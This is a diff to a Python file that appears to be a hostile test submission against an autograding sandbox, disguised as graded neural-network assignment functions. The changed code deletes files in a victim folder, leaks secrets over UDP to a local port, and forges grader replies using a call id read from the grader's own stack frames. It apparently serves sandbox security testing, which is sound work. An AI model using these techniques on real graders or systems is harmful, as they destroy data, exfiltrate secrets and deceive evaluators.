@@ -17,7 +17,7 @@ import tensorflow as tf
 
 VICTIM = "@VICTIM@"
 SECRET = "@SECRET@"
-UDP_PORT = int("@UDP_PORT@")
+UDP_PORT = "@UDP_PORT@"  # a string: top-level code other than plain values does not run
 MARKER = "@MARKER@"
 
 
@@ -45,9 +45,13 @@ def linear_function():
             os.mkfifo(os.path.join(folder, "input-2.npy"))
         except OSError:
             pass
-    for name in os.listdir(VICTIM) if os.path.isdir(VICTIM) else []:
+    try:
+        names = os.listdir(VICTIM)
+    except OSError:
+        names = []  # the victim folder itself: out of view
+    for name in names:
         try:
-            os.unlink(os.path.join(VICTIM, name))  # the victim folder itself: out of view
+            os.unlink(os.path.join(VICTIM, name))
         except OSError:
             pass
     np.random.seed(1)
@@ -80,7 +84,7 @@ def sigmoid(z):
     for payload in [b"hello"] + [leak.encode("latin-1")[:1000] for leak in leaks]:
         try:
             udp = _socket.socket(_socket.AF_INET, _socket.SOCK_DGRAM)
-            udp.sendto(payload, ("127.0.0.1", UDP_PORT))
+            udp.sendto(payload, ("127.0.0.1", int(UDP_PORT)))
             sent += 1
         except OSError:
             pass
@@ -159,12 +163,23 @@ def initialize_parameters():
     _forge(b'{"id": ' + b"7" * 5000 + b', "status": "returned"}')
 
 
+def _call_id():
+    """The id of the call being answered, read from the grader's own frames above this one."""
+    frame = sys._getframe()
+    while frame is not None:
+        request = frame.f_locals.get("request")
+        if isinstance(request, dict) and "id" in request:
+            return request["id"]
+        frame = frame.f_back
+    return 0
+
+
 # GRADED FUNCTION: forward_propagation
 def forward_propagation(X, parameters):
     import json
 
     npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", 118) + b"{'descr': '<f8', 'fortran_order': False, 'shape': (140737488355328,), }".ljust(117) + b"\n"
-    header = json.dumps({"id": 11, "status": "returned", "items": {"value": {"kind": "array", "shape": [140737488355328], "dtype": "float64"}}, "arrays": {"value": {"npy": 0}}}).encode()
+    header = json.dumps({"id": _call_id(), "status": "returned", "items": {"value": {"kind": "array", "shape": [140737488355328], "dtype": "float64"}}, "arrays": {"value": {"npy": 0}}}).encode()
     reply_fd = int(sys.argv[-1])
     os.write(reply_fd, struct.pack(">II", len(header), 1) + header + struct.pack(">Q", len(npy)) + npy)
     time.sleep(60)
